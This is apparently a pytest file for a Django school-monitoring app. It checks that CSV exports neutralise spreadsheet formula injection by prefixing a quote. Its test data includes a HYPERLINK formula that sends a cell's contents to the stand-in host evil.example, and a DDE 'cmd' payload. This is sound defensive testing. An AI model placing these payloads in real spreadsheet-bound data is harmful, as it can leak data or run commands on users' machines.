"""Issue 11, item 9: no CSV export writes a cell a spreadsheet runs as a formula (OWASP).

Names and free texts that start with = + - @ (or a tab / carriage return) reach the
thermometer's inspection CSV and the inspection report's CSV; each such cell now starts
with a single quote, so the spreadsheet shows the text instead of running it."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from monitoring.report.models import PreventionRegister
from people.csv_safe import safe_cell
from people.models import Branch, Department
from people.roles import Role
from tests import factories as f
from tests.monitoring.test_results import add, klass, make_round, rc_of

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"klik")'


def cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for c in row]


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_quotes_a_cell_that_starts_a_formula(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Fatima el Amrani", "< 10", "–", "3,25", 12, -1, 0.5, None, "a=b"])
def test_it_leaves_ordinary_cells_alone(value):
    assert safe_cell(value) == (value if not isinstance(value, str) else value)


def test_the_thermometer_export_neutralises_names(board):
    dept = f.DepartmentFactory(branch=board.branch, name="@SUM(1+1)")
    school_class = klass(board, "2B", department=dept)
    survey = make_round(board, [school_class], name=FORMULA)
    add(board, rc_of(board, survey, school_class), n=12)
    client = Client()
    client.force_login(board.coordinator)
    response = client.get(reverse("monitoring:dashboard_export", args=[survey.pk]))
    assert response.status_code == 200
    found = cells(response.content)
    assert "'" + FORMULA in found and "'@SUM(1+1)" in found
    assert not any(c.startswith(("=", "+", "-", "@")) for c in found)
    with board.tenant():
        assert Department.objects.filter(name="@SUM(1+1)").exists()  # stored as typed


def test_the_report_csv_neutralises_contacts_and_free_text(board):
    year = board.school_class.school_year
    with board.tenant():
        Branch.objects.filter(pk=board.branch.pk).update(coordinator_name=FORMULA, adviser_name="-1+cmd|' /C calc'!A0")
        PreventionRegister.objects.create(organisation=board.organisation, branch=board.branch, school_year=year,
                                          plan_text="+ meer toezicht in de pauze")
    manager = f.make_staff(Role.BRANCH_MANAGEMENT, branch=board.branch)
    client = Client()
    client.force_login(manager)
    url = reverse("monitoring:report_export")
    response = client.get(f"{url}?vestiging={board.branch.pk}&schooljaar={year.pk}&formaat=csv")
    assert response.status_code == 200
    found = cells(response.content)
    assert "'" + FORMULA in found and "'-1+cmd|' /C calc'!A0" in found and "'+ meer toezicht in de pauze" in found
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in found)
